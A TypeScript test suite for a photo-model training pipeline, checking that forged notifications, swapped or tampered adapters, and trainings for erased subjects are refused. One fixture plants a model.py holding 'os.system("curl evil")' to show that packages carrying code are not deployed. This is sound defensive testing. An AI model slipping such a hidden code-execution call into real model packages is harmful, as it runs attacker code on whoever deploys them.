import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deployModel } from '../../../functions/deployment/deploy-model.js';
import { UnexpectedTrainingResponseError } from '../../../functions/deployment/errors.js';
import { ErasureTombstones } from '../../../functions/erasure/erasure-tombstones.js';
import { SubjectErasedError } from '../../../functions/erasure/errors.js';
import { FolderObjectVersions } from '../../../functions/erasure/object-versions.js';
import { FolderObjectStore } from '../../../functions/platform/folder-object-store.js';
import { createTarGz, readTarGz } from '../../../functions/platform/tar-archive.js';
import { CallbackTokens } from '../../../functions/training/callback-tokens.js';
import { sha256 } from '../../../functions/training/notification-checks.js';
import type { TaskCallbacks } from '../../../functions/training/task-callbacks.js';
import { handleTrainingNotification } from '../../../functions/training/training-notification.js';
import { type LocalDynamo, startLocalDynamo } from '../../../local/runtime/local-dynamo.js';
import { trainingStateTableDefinition } from '../../../local/runtime/table-definitions.js';
import { buildModelPackage, tritonModelName } from '../../../local/stand-ins/model-package.js';

const TABLE = 'training-state';
const BUCKET = 'photo-bucket';
const SUCCESS = 'arn:aws:sns:eu-west-1:123456789012:training-success';
const ERROR = 'arn:aws:sns:eu-west-1:123456789012:training-error';
const VERSION = 'v-0123456789ab';
const INFERENCE = `${VERSION}-aaaaaaaaaaaa`;
const ADAPTER = `adapters/default/ana/${VERSION}/model.tar.gz`;
const OUTPUT = `async-inference/output/${INFERENCE}.out`;

class RecordingCallbacks implements TaskCallbacks {
  readonly calls: { kind: string; output?: unknown; error?: string }[] = [];
  async succeed(_token: string, output: unknown) {
    this.calls.push({ kind: 'succeed', output });
    return 'sent' as const;
  }
  async fail(_token: string, error: string) {
    this.calls.push({ kind: 'fail', error });
    return 'stale' as const;
  }
}

function response(overrides: Record<string, unknown> = {}) {
  return JSON.stringify({
    schemaVersion: 1,
    subjectId: 'ana',
    imageSetId: 'is-0123456789abcdef',
    modelVersion: VERSION,
    adapterPackageUri: `s3://${BUCKET}/${ADAPTER}`,
    adapterBytes: 4,
    baseModel: 'stabilityai/stable-diffusion-2-1-base',
    hyperparameters: {},
    timings: { downloadSeconds: 1, classImagesSeconds: 1, trainingSeconds: 1, packagingSeconds: 1 },
    ...overrides,
  });
}

const notification = (status: 'Completed' | 'Failed', outputLocation = `s3://${BUCKET}/${OUTPUT}`) =>
  JSON.stringify({
    invocationStatus: status,
    inferenceId: INFERENCE,
    ...(status === 'Completed'
      ? { responseParameters: { outputLocation } }
      : { failureReason: 'ClientError: boom', responseParameters: { failureLocation: `s3://${BUCKET}/x` } }),
  });

describe('training notifications that cannot be forged (issue 11, item 6)', () => {
  let dynamo: LocalDynamo;
  let dir: string;
  let store: FolderObjectStore;
  let tokens: CallbackTokens;
  let tombstones: ErasureTombstones;
  let callbacks: RecordingCallbacks;
  let clock: number;
  let adapterBytes: Uint8Array;

  const deps = () => ({
    tokens,
    callbacks,
    log: () => {},
    provenance: { successTopicArn: SUCCESS, errorTopicArn: ERROR, bucket: BUCKET, store },
    erasure: { tombstones, versions: new FolderObjectVersions(store), bucket: BUCKET },
  });
  const deploy = () =>
    deployModel(
      {
        tenantId: 'default',
        subjectId: 'ana',
        modelVersion: VERSION,
        outputLocation: `s3://${BUCKET}/${OUTPUT}`,
        inferenceId: INFERENCE,
      },
      { store, bucket: BUCKET, modelsPrefix: 'models/', checks: { tokens, tombstones } },
    );

  beforeAll(async () => {
    adapterBytes = await buildModelPackage({
      subjectId: 'ana',
      modelVersion: VERSION,
      metadata: { subjectId: 'ana', modelVersion: VERSION },
      adapterFiles: { 'pytorch_lora_weights.safetensors': 'weights' },
    });
  });

  beforeEach(async () => {
    dynamo = await startLocalDynamo([trainingStateTableDefinition(TABLE)]);
    dir = await mkdtemp(join(tmpdir(), 'forged-'));
    store = new FolderObjectStore(dir);
    clock = 1_790_000_000_000;
    tokens = new CallbackTokens(dynamo.db, TABLE, () => clock);
    tombstones = new ErasureTombstones(dynamo.db, TABLE);
    callbacks = new RecordingCallbacks();
    await tokens.remember(
      INFERENCE,
      {
        taskToken: 'token',
        executionName: 'ana-0a1b2c3d-g1',
        tenantId: 'default',
        subjectId: 'ana',
        modelVersion: VERSION,
      },
      3600,
    );
    await store.put(ADAPTER, adapterBytes, 'application/gzip');
    await store.put(OUTPUT, response(), 'application/json');
  });
  afterEach(async () => {
    await dynamo.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('accepts a genuine success, records the adapter digest and passes it on', async () => {
    // Act
    const outcome = await handleTrainingNotification(notification('Completed'), deps(), {
      topicArn: SUCCESS,
    });
    // Assess
    expect(outcome).toBe('task-succeeded');
    expect(callbacks.calls).toEqual([
      {
        kind: 'succeed',
        output: {
          inferenceId: INFERENCE,
          outputLocation: `s3://${BUCKET}/${OUTPUT}`,
          adapterSha256: sha256(adapterBytes),
        },
      },
    ]);
    expect((await tokens.peek(INFERENCE))?.adapterSha256).toBe(sha256(adapterBytes));
    await expect(deploy()).resolves.toMatchObject({ modelKey: `models/default/ana/${VERSION}.tar.gz` });
  });

  it.each([
    ['a success sent on the error topic', notification('Completed'), ERROR, /success topic/],
    ['a failure sent on the success topic', notification('Failed'), SUCCESS, /error topic/],
    ['a success from an unnamed topic', notification('Completed'), undefined, /success topic/],
    [
      'an output outside async-inference/output/',
      notification('Completed', `s3://${BUCKET}/training/default/ana/x.out`),
      SUCCESS,
      /not under async-inference\/output\//,
    ],
    [
      'an output in another bucket',
      notification('Completed', `s3://other-bucket/${OUTPUT}`),
      SUCCESS,
      /not in the pipeline's bucket/,
    ],
  ])('refuses %s and leaves the subject as it was', async (_case, message, topicArn, problem) => {
    // Prepare
    const logged: unknown[] = [];
    // Act
    const outcome = await handleTrainingNotification(
      message,
      { ...deps(), log: (...args) => logged.push(args) },
      { topicArn },
    );
    // Assess
    expect(outcome).toBe('refused');
    expect(JSON.stringify(logged)).toMatch(problem);
    expect(callbacks.calls).toEqual([]);
    // The token is still waiting: the genuine notification still gets through.
    expect(await handleTrainingNotification(notification('Completed'), deps(), { topicArn: SUCCESS })).toBe(
      'task-succeeded',
    );
  });

  it.each([
    [
      "another subject's adapter",
      { adapterPackageUri: `s3://${BUCKET}/adapters/default/bo/${VERSION}/model.tar.gz` },
      /not the planned/,
    ],
    [
      "another tenant's adapter",
      { adapterPackageUri: `s3://${BUCKET}/adapters/acme/ana/${VERSION}/model.tar.gz` },
      /not the planned/,
    ],
    ['a response for another subject', { subjectId: 'bo' }, /another subject or version/],
    ['a response for another version', { modelVersion: 'v-ffffffffffff' }, /another subject or version/],
  ])('refuses a response naming %s', async (_case, overrides, problem) => {
    // Prepare
    await store.put(OUTPUT, response(overrides), 'application/json');
    const logged: unknown[] = [];
    // Act
    const outcome = await handleTrainingNotification(
      notification('Completed'),
      { ...deps(), log: (...a) => logged.push(a) },
      { topicArn: SUCCESS },
    );
    // Assess
    expect(outcome).toBe('refused');
    expect(JSON.stringify(logged)).toMatch(problem);
    expect(callbacks.calls).toEqual([]);
    expect((await tokens.peek(INFERENCE))?.adapterSha256).toBeUndefined();
  });

  it('refuses to deploy an adapter tampered with after its notification was checked', async () => {
    // Prepare
    await handleTrainingNotification(notification('Completed'), deps(), { topicArn: SUCCESS });
    await store.put(ADAPTER, new Uint8Array([0x1f, 0x8b, 8, 1]), 'application/gzip');
    // Act
    const deployed = deploy();
    // Assess
    await expect(deployed).rejects.toThrow(UnexpectedTrainingResponseError);
    await expect(deployed).rejects.toThrow(/changed after training/);
    expect(await store.list('models/')).toEqual([]);
  });

  it('refuses to deploy a package with code in it even when its genuine notification recorded its digest', async () => {
    // Prepare
    const model = tritonModelName('ana', VERSION);
    const withCode = await createTarGz([
      ...(await readTarGz(adapterBytes)),
      { path: `${model}/1/model.py`, body: Buffer.from('import os; os.system("curl evil")') },
    ]);
    await store.put(ADAPTER, withCode, 'application/gzip');
    await handleTrainingNotification(notification('Completed'), deps(), { topicArn: SUCCESS });
    // Act
    const deployed = deploy();
    // Assess
    expect((await tokens.peek(INFERENCE))?.adapterSha256).toBe(sha256(withCode));
    await expect(deployed).rejects.toThrow(UnexpectedTrainingResponseError);
    await expect(deployed).rejects.toThrow(`is not deployed: carries code: ${model}/1/model.py`);
    expect(await store.list('models/')).toEqual([]);
  });

  it('refuses to deploy an adapter whose digest no notification recorded', async () => {
    // Act
    const deployed = deploy();
    // Assess
    await expect(deployed).rejects.toThrow(/No digest was recorded/);
    expect(await store.list('models/')).toEqual([]);
  });
});

describe('a training that finishes after its subject was erased (issue 11, item 1)', () => {
  it('deletes the late adapter and result, never answers success, and DeployModel refuses it', async () => {
    // Prepare
    const dynamo = await startLocalDynamo([trainingStateTableDefinition(TABLE)]);
    const dir = await mkdtemp(join(tmpdir(), 'late-'));
    try {
      const store = new FolderObjectStore(dir);
      const tokens = new CallbackTokens(dynamo.db, TABLE, () => 1_000);
      const tombstones = new ErasureTombstones(dynamo.db, TABLE);
      const callbacks = new RecordingCallbacks();
      await tokens.remember(
        INFERENCE,
        {
          taskToken: 'token',
          executionName: 'ana-0a1b2c3d-g1',
          tenantId: 'default',
          subjectId: 'ana',
          modelVersion: VERSION,
        },
        3600,
      );
      await tombstones.record(
        { tenantId: 'default', subjectId: 'ana' },
        'erasure-000000000000000000000000',
        2_000,
      );
      await store.put(ADAPTER, new Uint8Array([1, 2, 3]), 'application/gzip');
      await store.put(OUTPUT, response(), 'application/json');
      const deps = {
        tokens,
        callbacks,
        log: () => {},
        provenance: { successTopicArn: SUCCESS, errorTopicArn: ERROR, bucket: BUCKET, store },
        erasure: { tombstones, versions: new FolderObjectVersions(store), bucket: BUCKET },
      };
      // Act
      const outcome = await handleTrainingNotification(notification('Completed'), deps, {
        topicArn: SUCCESS,
      });
      const deployed = deployModel(
        {
          tenantId: 'default',
          subjectId: 'ana',
          modelVersion: VERSION,
          outputLocation: `s3://${BUCKET}/${OUTPUT}`,
          inferenceId: INFERENCE,
        },
        { store, bucket: BUCKET, modelsPrefix: 'models/', checks: { tokens, tombstones } },
      );
      // Assess
      expect(outcome).toBe('erased');
      expect(await store.list('adapters/')).toEqual([]);
      expect(await store.list('async-inference/')).toEqual([]);
      expect(callbacks.calls).toEqual([{ kind: 'fail', error: 'SubjectErasedError' }]);
      await expect(deployed).rejects.toThrow(SubjectErasedError);
    } finally {
      await dynamo.close();
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('does not touch a training begun after the erasure (the subject dropped again)', async () => {
    // Prepare
    const dynamo = await startLocalDynamo([trainingStateTableDefinition(TABLE)]);
    try {
      const tombstones = new ErasureTombstones(dynamo.db, TABLE);
      await tombstones.record(
        { tenantId: 'default', subjectId: 'ana' },
        'erasure-000000000000000000000000',
        2_000,
      );
      // Act
      const before = await tombstones.erasedSince({ tenantId: 'default', subjectId: 'ana' }, 1_999);
      const after = await tombstones.erasedSince({ tenantId: 'default', subjectId: 'ana' }, 2_001);
      const other = await tombstones.erasedSince({ tenantId: 'acme', subjectId: 'ana' }, 0);
      // Assess
      expect([before, after, other]).toEqual([true, false, false]);
    } finally {
      await dynamo.close();
    }
  });
});
